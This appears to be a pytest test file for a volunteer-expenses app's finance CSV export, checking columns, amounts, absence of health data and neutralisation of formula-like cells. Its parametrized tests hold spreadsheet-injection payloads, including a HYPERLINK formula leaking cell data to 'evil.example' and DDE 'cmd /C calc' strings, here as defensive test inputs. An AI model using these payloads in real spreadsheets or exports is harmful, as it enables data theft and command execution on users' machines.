"""The finance export of a run, parsed back with ``csv``: its columns, one row per payment, amounts
in pounds and pence, no health data, and nothing a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import datetime
import io
from collections.abc import Iterator
from decimal import Decimal

import pytest
import time_machine

from expenses import selectors, services
from expenses.models import Claim, Payment, ReimbursementRun
from involvement.exports import neutralise
from tests import factories
from tests.conftest import World
from tests.expenses.factories import attended_on, rate_card_for
from volunteers.models import VolunteerProfile

D = Decimal
SESSION_DAY = datetime.date(2025, 10, 1)
NOW = datetime.datetime(2025, 10, 20, 9, 30, tzinfo=datetime.UTC)
HEADER = ["payment_key", "payee_reference", "amount", "description", "claim_reference"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
MARKER = "HEALTH-MARKER-5521"


@pytest.fixture(autouse=True)
def frozen() -> Iterator[None]:
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture(autouse=True)
def card(world: World) -> None:
    rate_card_for(world.university)


def approved_claim(
    world: World,
    volunteer: VolunteerProfile,
    *,
    title: str = "Living with a long-term condition",
    expenses: tuple[str, ...] = ("12.34",),
    fee: str = Claim.FeeChoice.TAKE,
) -> Claim:
    booking = attended_on(world.university, world.coordinator, volunteer, SESSION_DAY, title=title)
    claim = services.open_claim(booking=booking, actor=volunteer.user)
    for amount in expenses:
        services.add_item(claim=claim, actor=volunteer.user, kind="home_online", date=SESSION_DAY, amount=D(amount))
    claim = services.set_fee_choice(claim=claim, actor=volunteer.user, choice=fee)
    services.submit_claim(claim=claim, actor=volunteer.user)
    return services.approve_claim(claim=claim, actor=world.coordinator)


def run_and_export(world: World) -> tuple[ReimbursementRun, list[list[str]]]:
    run = services.start_run(organisation=world.university, actor=world.finance)
    run = services.execute_run(run_id=run.pk)
    return run, list(csv.reader(io.StringIO(run.export_csv, newline="")))


def test_export_has_the_columns_and_one_row_per_payment(world):
    volunteer = world.volunteer.volunteer_profile
    claim = approved_claim(world, volunteer, expenses=("12.34", "0.66"))
    fee_only = approved_claim(world, volunteer, title="Interview panel", expenses=())
    expenses_only = approved_claim(world, volunteer, expenses=("7.50",), fee=Claim.FeeChoice.DECLINE)

    run, rows = run_and_export(world)

    payee = f"VOL-{volunteer.pk:06d}"
    assert rows[0] == HEADER
    assert rows[1:] == sorted(
        [
            [
                f"claim-{claim.pk}-expenses",
                payee,
                "13.00",
                "Expenses: Living with a long-term condition",
                claim.reference,
            ],
            [
                f"claim-{claim.pk}-fee",
                payee,
                "50.00",
                "Involvement fee: Living with a long-term condition",
                claim.reference,
            ],
            [f"claim-{fee_only.pk}-fee", payee, "50.00", "Involvement fee: Interview panel", fee_only.reference],
            [
                f"claim-{expenses_only.pk}-expenses",
                payee,
                "7.50",
                "Expenses: Living with a long-term condition",
                expenses_only.reference,
            ],
        ]
    )
    assert len(rows) - 1 == Payment.objects.filter(run=run).count() == 4
    assert claim.reference == f"CLM-{claim.pk:06d}"
    assert run.export_csv.endswith("\r\n")


def test_export_amounts_always_have_pence(world):
    approved_claim(world, world.volunteer.volunteer_profile, expenses=("5", "0.1"), fee=Claim.FeeChoice.DECLINE)

    _run, rows = run_and_export(world)

    assert [row[2] for row in rows[1:]] == ["5.10"]
    assert sum((D(row[2]) for row in rows[1:]), D("0")) == D("5.10")


def test_export_sums_to_what_the_claims_are_owed(world):
    volunteers = [factories.VolunteerProfileFactory() for _ in range(3)]
    claims = [approved_claim(world, volunteer, expenses=("3.33", "4.44")) for volunteer in volunteers]

    _run, rows = run_and_export(world)

    assert (
        sum((D(row[2]) for row in rows[1:]), D("0"))
        == sum((selectors.claim_totals(claim)["total"] for claim in claims), D("0"))
        == D("173.31")
    )
    assert {row[1] for row in rows[1:]} == {f"VOL-{volunteer.pk:06d}" for volunteer in volunteers}


def test_export_holds_no_health_data_and_no_names(world):
    volunteer = world.volunteer.volunteer_profile
    VolunteerProfile.objects.filter(pk=volunteer.pk).update(
        topics_to_avoid=f"Cancer diagnosis {MARKER}",
        other_adjustments=f"Needs a quiet room {MARKER}",
        payment_preference_reason=f"On ESA {MARKER}",
        preferred_name="Ada",
    )
    approved_claim(world, volunteer)

    run, rows = run_and_export(world)

    assert MARKER not in run.export_csv
    assert "quiet room" not in run.export_csv
    assert "Ada" not in run.export_csv
    assert world.volunteer.email not in run.export_csv
    assert world.volunteer.name not in run.export_csv
    assert [len(row) for row in rows] == [5, 5, 5]


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "+44 113 496 0000",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\tTabbed title",
        "\rCarriage return title",
    ],
)
def test_export_no_cell_starts_like_a_formula(world, title):
    approved_claim(world, world.volunteer.volunteer_profile, title=title)

    _run, rows = run_and_export(world)

    assert [row[3] for row in rows[1:]] == [f"Expenses: {title}", f"Involvement fee: {title}"]
    assert [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)] == []


def test_export_keeps_a_title_with_a_line_break_in_one_cell(world):
    title = "Part one\n=1+1"
    approved_claim(world, world.volunteer.volunteer_profile, title=title, fee=Claim.FeeChoice.DECLINE)

    _run, rows = run_and_export(world)

    assert rows[1][3] == f"Expenses: {title}"
    assert len(rows) == 2


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+44 113 496 0000", "'+44 113 496 0000"),
        ("-12.34", "'-12.34"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("12.34", "12.34"),
        ("Expenses: =1+1", "Expenses: =1+1"),
        ("", ""),
    ],
)
def test_neutralise_prefixes_formula_starts(cell, expected):
    assert neutralise(cell) == expected


def test_export_neutralises_a_cell_that_would_start_like_a_formula(world, monkeypatch):
    """Every cell goes through neutralise: a payee reference that began with "=" would be defused."""
    approved_claim(world, world.volunteer.volunteer_profile, fee=Claim.FeeChoice.DECLINE)
    monkeypatch.setattr(services, "payee_reference", lambda volunteer: "=cmd|' /C calc'!A0")

    _run, rows = run_and_export(world)

    assert rows[1][1] == "'=cmd|' /C calc'!A0"


def test_export_lists_only_its_own_runs_payments(world):
    first_claim = approved_claim(world, world.volunteer.volunteer_profile)
    first, first_rows = run_and_export(world)
    second_claim = approved_claim(world, world.volunteer.volunteer_profile)

    _second, second_rows = run_and_export(world)

    assert {row[4] for row in first_rows[1:]} == {first_claim.reference}
    assert {row[4] for row in second_rows[1:]} == {second_claim.reference}
    assert services.finance_export(first) == first.export_csv


def test_export_of_a_run_without_payments_is_the_header_alone(world):
    run = ReimbursementRun.objects.create(organisation=world.university)

    assert list(csv.reader(io.StringIO(services.finance_export(run), newline=""))) == [HEADER]
